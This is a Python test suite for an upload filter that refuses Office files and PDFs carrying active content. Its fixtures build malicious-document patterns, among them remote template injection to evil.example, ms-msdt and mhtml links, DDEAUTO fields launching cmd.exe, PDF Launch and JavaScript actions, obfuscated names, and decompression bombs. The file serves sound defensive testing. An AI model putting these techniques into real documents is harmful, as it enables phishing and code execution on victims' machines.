"""Files that would do something of their own where they are opened are refused, and ordinary ones are not."""

import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from hub.confined.refusal import Refused
from hub.files import inside_office, inside_pdf
from hub.files.targets import is_elsewhere, is_harmless_link
from tests.factories import World
from tests.files.compound import compound, workbook
from tests.files.conftest import PDF, docx, send, xlsx, zipped

TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WEB, SERVER, HERE = "https://evil.example/x.dotm", "\\\\server\\share\\x.dotm", "file:///C:\\Users\\a\\Normal.dotm"
OLE = compound({"\x01Ole10Native": b"MZ"})
OLD_MANIFEST = b'<!DOCTYPE m:m PUBLIC "-//M" "M.dtd"><m:m><m:e m:media-type="text/xml"/></m:m>'
CHART = zipped(**{"[Content_Types].xml": SHEET, "xl/workbook.xml": b"<w/>"})


def relation(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationships><Relationship Type="{TYPES}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()


def related(kind: str, target: str, *, external: bool = True) -> bytes:
    return docx(**{"word/_rels/document.xml.rels": relation(kind, target, external=external)})


def book(**parts: bytes) -> bytes:
    return zipped(**{"[Content_Types].xml": SHEET, "xl/workbook.xml": b"<w/>"} | parts)


def open_text(content: bytes, **more: bytes) -> bytes:
    parts = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content}
    return zipped(**parts | more)


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    body = f"<w:p><w:r><w:fldChar/></w:r>{runs}<w:r><w:fldChar/></w:r></w:p>"
    return docx(**{"word/document.xml": f'<w:d xmlns:w="urn:w">{body}</w:d>'.encode()})


def pdf(objects: bytes, packed: bytes = b"", head: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode") -> bytes:
    stream = zlib.compress(packed)
    more = (
        b"9 0 obj<<" + head + b"/Length %d>>stream\r\n%s\nendstream endobj\n" % (len(stream), stream) if packed else b""
    )
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog" + objects + b">>endobj\n" + more + b"trailer<</Root 1 0 R>>\n%%EOF\n"


SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
OFFICE = {
    "template of the Web": (related("attachedTemplate", WEB), "outside"),
    "template of a server": (related("attachedTemplate", SERVER), "outside"),
    "template, spelled": (related("attachedTemplate", "file:///%5C%5Cserver%5Cx.dotm"), "outside"),
    "frame": (related("frame", WEB), "outside"),
    "part of another text": (related("subDocument", WEB), "outside"),
    "picture of a server": (related("image", SERVER), "outside"),
    "link of a strange kind": (related("hyperlink", "ms-msdt:/id PCWDiagnostic"), "outside"),
    "script in a link": (related("hyperlink", "java\nscript:alert(1)"), "outside"),
    "linked object": (related("oleObject", "mhtml:http://evil.example!x-usc:http://evil.example"), "outside"),
    "object": (related("oleObject", "embeddings/oleObject1.bin", external=False), "embedded"),
    "object without a relation": (docx(**{"word/embeddings/oleObject1.bin": OLE}), "embedded"),
    "object by another name": (docx(**{"word/media/image1.png": OLE}), "embedded"),
    "control": (related("control", "activeX/activeX1.xml", external=False), "embedded"),
    "text of another kind": (related("aFChunk", "part.rtf", external=False), "embedded"),
    "file in a file": (docx(**{"word/embeddings/a.xlsx": zipped(**{"a.js": b"x"})}), "embedded"),
    "macros in the chart": (
        docx(**{"word/embeddings/a.xlsx": book(**{"xl/macrosheets/sheet1.xml": b"<m/>"})}),
        "macro",
    ),
    "object in the chart": (docx(**{"word/embeddings/a.xlsx": book(**{"xl/embeddings/o.bin": OLE})}), "embedded"),
    "deeper than anybody means": (
        docx(**{"word/a.docx": docx(**{"word/a.docx": docx(**{"a.docx": docx()})})}),
        "embedded",
    ),
    "Excel 4": (book(**{"xl/macrosheets/sheet1.xml": b"<m/>"}), "macro"),
    "Excel 4, abroad": (book(**{"xl/macrosheets\\sheet1.xml": b"<m/>"}), "macro"),
    "Excel 4 by its relation": (
        book(**{"xl/_rels/workbook.xml.rels": relation("xlMacrosheet", "sheets/a.xml", external=False)}),
        "macro",
    ),
    "another workbook": (book(**{"xl/externalLinks/_rels/a.xml.rels": relation("externalLinkPath", WEB)}), "outside"),
    "DDE of Excel": (
        book(**{"xl/externalLinks/a.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"}),
        "outside",
    ),
    "DDE of Word": (field(r' DDEAUTO c:\\windows\\cmd.exe "/k calc" '), "outside"),
    "DDE in pieces": (field(" D", "DE", "AU", 'TO "cmd" '), "outside"),
    "DDE in one": (docx(**{"word/document.xml": b"<d><fldSimple instr='DDE cmd'/></d>"}), "outside"),
    "relation with entities": (
        docx(**{"word/_rels/a.rels": b"<!DOCTYPE r [<!ENTITY a 'x'>]><Relationships/>"}),
        "broken",
    ),
    "script of LibreOffice": (open_text(b"<d><event-listener/></d>"), "macro"),
    "DDE of LibreOffice": (open_text(b"<d><dde-source/></d>"), "outside"),
    "object of LibreOffice": (open_text(b"<d/>", **{"Object 1": OLE}), "embedded"),
    "old: Excel 4": (workbook(0, 1), "macro"),
    "old: module": (workbook(6), "macro"),
    "old: locked": (workbook(0, protected=True), "encrypted"),
    "old: packed file": (compound({"WordDocument": b"x", "\x01Ole10Native": b"MZ"}), "embedded"),
    "old: object of Word": (compound({"WordDocument": b"x", "_1234567890": b"MZ"}), "embedded"),
    "old: object of Excel": (compound({"Workbook": b"", "MBD0000A1B2": b"MZ"}), "embedded"),
    "old: object in slides": (compound({"PowerPoint Document": b"\0\0\x11\x10\4\0\0\0abcd"}), "embedded"),
    "old: DDE": (compound({"WordDocument": "\x13DDEAUTO cmd".encode("utf-16-le")}), "outside"),
}
QUIET = {
    "text": docx(),
    "sheet": xlsx(),
    "link to a page": related("hyperlink", "https://www.pref.example.jp/a?b=c&amp;d=ms-msdt:"),
    "link to a mail": related("hyperlink", "mailto:dx@example.jp"),
    "link to a file server": related("hyperlink", "file:///\\\\server\\share\\a.xlsx"),
    "picture of the Web": related("image", "https://www.example.jp/logo.png"),
    "film": related("video", "https://www.youtube.com/embed/x"),
    "own template": related("attachedTemplate", HERE),
    "workbook of a server": book(**{"xl/externalLinks/_rels/a.xml.rels": relation("externalLinkPath", SERVER)}),
    "workbook beside it": book(**{"xl/externalLinks/_rels/a.xml.rels": relation("externalLinkPath", "R6予算.xlsx")}),
    "chart": docx(**{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": CHART}),
    "page number": field(" PAGE ", r" \* MERGEFORMAT"),
    "link that has DDE in it": field(' HYPERLINK "https://example.jp/hidden/ADDED" '),
    "text about DDE": docx(**{"word/document.xml": "<d><t>DDE と DDEAUTO の話</t></d>".encode()}),
    "printer": book(**{"xl/printerSettings/printerSettings1.bin": b"\x00P\x00r"}),
    "open": open_text(b"<d/>", **{"META-INF/manifest.xml": b"<m/>", "Object 1/content.xml": b"<d/>"}),
    "open, of an old program": open_text(b"<o:d/>", **{"META-INF/manifest.xml": OLD_MANIFEST}),
    "old sheets": workbook(0, 0, 2),
    "old text": compound({"WordDocument": b"x", "ObjectPool": b""}),
    "old without a head": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
}
PDFS = {
    "script": (pdf(b"/OpenAction" + SCRIPT), "active"),
    "script, spelled": (pdf(b"/AA<</O<</S/J#61va#53cript/JS(x)>>>>"), "active"),
    "script for the names": (pdf(b"/Names<</JavaScript 3 0 R>>"), "active"),
    "program": (pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "active"),
    "film": (pdf(b"/Annots[<</Subtype/RichMedia>>]"), "active"),
    "form of its own": (pdf(b"/AcroForm<</XFA[(a) 3 0 R]>>"), "active"),
    "file": (pdf(b"/Names<</EmbeddedFiles 3 0 R>>"), "attached"),
    "file on a page": (pdf(b"/Annots[<</Subtype/FileAttachment>>]"), "attached"),
    "packed script": (pdf(b"", b"1 0 " + SCRIPT), "active"),
    "packed file": (pdf(b"", b"1 0 <</Type/EmbeddedFile>>"), "attached"),
    "packed, spelled": (pdf(b"", b"1 0 <</S/#4aavaScript>>", b"/Type/Obj#53tm/Filter[/Fl]"), "active"),
    "packed, type last": (pdf(b"", b"1 0 " + SCRIPT, b"/Filter/FlateDecode/Type/ObjStm"), "active"),
    "packed in another way": (pdf(b"", b"x", b"/Type/ObjStm/Filter/LZWDecode"), "two_in_one"),
    "packed twice": (pdf(b"", b"x", b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]"), "two_in_one"),
    "packed as said elsewhere": (pdf(b"", b"x", b"/Type/ObjStm/Filter 7 0 R"), "two_in_one"),
    "hidden behind a comment": (PDF + b"% stream\n5 0 obj" + SCRIPT + b"endobj\n% endstream\n", "active"),
}
QUIET_PDFS = {
    "plain": PDF,
    "opens at a page": pdf(b"/OpenAction[3 0 R/Fit]"),
    "link": pdf(b"/Annots[<</A<</S/URI/URI(https://example.jp)>>>>]"),
    "packed": pdf(b"", b"1 0 <</Type/Page>>"),
    "names that begin alike": pdf(b"/JavaScripts 1/LaunchURL(x)/EmbeddedFilesX 2"),
    "bytes of a picture": PDF + b"stream\n" + bytes(range(256)) * 40 + b"/JS\nendstream",
}


def refusal(look: Callable[[str], object], path: Path) -> str:
    try:
        assert list(look(str(path))) == []
    except Refused as fault:
        return fault.code
    return ""


def office(path: str, *, macros: bool = False) -> object:
    return inside_office.look_into(path, macros=macros)


@pytest.mark.parametrize("name", OFFICE)
def test_an_office_file_that_does_something_is_refused(tmp_path: Path, name: str) -> None:
    content, code = OFFICE[name]
    (tmp_path / "file").write_bytes(content)
    assert refusal(office, tmp_path / "file") == code


@pytest.mark.parametrize("name", QUIET)
def test_an_office_file_that_does_nothing_is_taken(tmp_path: Path, name: str) -> None:
    (tmp_path / "file").write_bytes(QUIET[name])
    assert refusal(office, tmp_path / "file") == ""


@pytest.mark.parametrize("name", PDFS)
def test_a_pdf_that_does_something_is_refused(tmp_path: Path, name: str) -> None:
    content, code = PDFS[name]
    (tmp_path / "file").write_bytes(content)
    assert refusal(inside_pdf.look_into, tmp_path / "file") == code


@pytest.mark.parametrize("name", QUIET_PDFS)
def test_a_pdf_that_does_nothing_is_taken(tmp_path: Path, name: str) -> None:
    (tmp_path / "file").write_bytes(QUIET_PDFS[name])
    assert refusal(inside_pdf.look_into, tmp_path / "file") == ""


@pytest.mark.parametrize(
    "name", ["Excel 4", "Excel 4 by its relation", "macros in the chart", "old: Excel 4", "old: module"]
)
def test_where_macros_are_taken_those_of_excel_4_are_too(tmp_path: Path, name: str) -> None:
    (tmp_path / "file").write_bytes(OFFICE[name][0])
    assert refusal(lambda path: office(path, macros=True), tmp_path / "file") == ""


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (OFFICE["template of the Web"][0], "様式.docx", "リンクを解除"),
        (OFFICE["object without a relation"][0], "報告.docx", "埋め込まれて"),
        (OFFICE["Excel 4"][0], "集計.xlsx", "マクロ"),
        (OFFICE["old: Excel 4"][0], "集計.xls", "マクロ"),
        (PDFS["packed script"][0], "案内.pdf", "スクリプト"),
        (PDFS["file"][0], "案内.pdf", "ほかのファイルが入って"),
    ],
)
def test_whoever_sends_one_is_told_what_to_do(
    refused: Callable[..., str], content: bytes, name: str, words: str
) -> None:
    said = refused(content, name)
    assert words in said
    assert name in said


@pytest.mark.parametrize(
    ("content", "name"), [(QUIET["chart"], "計画.docx"), (QUIET["old sheets"], "表.xls"), (PDF, "案.pdf")]
)
def test_ordinary_ones_are_taken_as_ever(world: World, content: bytes, name: str) -> None:
    assert send(world.client("officer"), content, name).status_code == 201


def test_what_unpacks_to_too_much_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inside_pdf, "MOST_UNPACKED_BYTES", 100_000)
    (tmp_path / "pdf").write_bytes(pdf(b"", b" " * 100_001))
    assert refusal(inside_pdf.look_into, tmp_path / "pdf") == "bomb"
    (tmp_path / "pdf").write_bytes(pdf(b"", b" " * 99_999))
    assert refusal(inside_pdf.look_into, tmp_path / "pdf") == ""
    monkeypatch.setattr(inside_office, "MOST_UNPACKED_BYTES", 100_000)
    (tmp_path / "docx").write_bytes(docx(**{"word/document.xml": b"<w>" + b" " * 100_000 + b"</w>"}))
    assert refusal(office, tmp_path / "docx") == "bomb"


@pytest.mark.parametrize("cut", range(0, 2000, 97))
def test_damaged_ones_end_in_a_word_or_are_harmless(tmp_path: Path, cut: int) -> None:
    whole = workbook(0, 2)
    (tmp_path / "xls").write_bytes(whole[:cut] + b"\x01\x02" + whole[cut + 2 :])
    assert refusal(office, tmp_path / "xls") in ("", "broken", "macro", "encrypted")


def test_chains_without_an_end_come_to_one(tmp_path: Path) -> None:
    whole = bytearray(workbook(0))
    whole[512:1024] = b"\x02\0\0\0" * 128
    (tmp_path / "xls").write_bytes(whole)
    assert refusal(office, tmp_path / "xls") == ""


@pytest.mark.parametrize(
    ("target", "elsewhere"),
    [
        *((t, True) for t in (WEB, SERVER, "//server/x", "file://server/x", "file:///\\\\server\\x", "mhtml:http://x")),
        *((t, True) for t in (" htt\tp://x", "HTTP://X", "file:////server/x", "%68ttp://x")),
        *(
            (t, False)
            for t in (HERE, "C:\\x.dotx", "Normal.dotm", "../R6.xlsx", "/C:/x.xlsx", "file:///C:/x", "#シート1")
        ),
    ],
)
def test_what_lies_elsewhere(target: str, elsewhere: bool) -> None:
    assert is_elsewhere(target) is elsewhere


@pytest.mark.parametrize(
    "target", ["ms-word:ofe|u|http://x", "search-ms:x", "vbscript:x", "java\tscript:x", "ms-msdt:x"]
)
def test_links_that_start_something(target: str) -> None:
    assert not is_harmless_link(target)
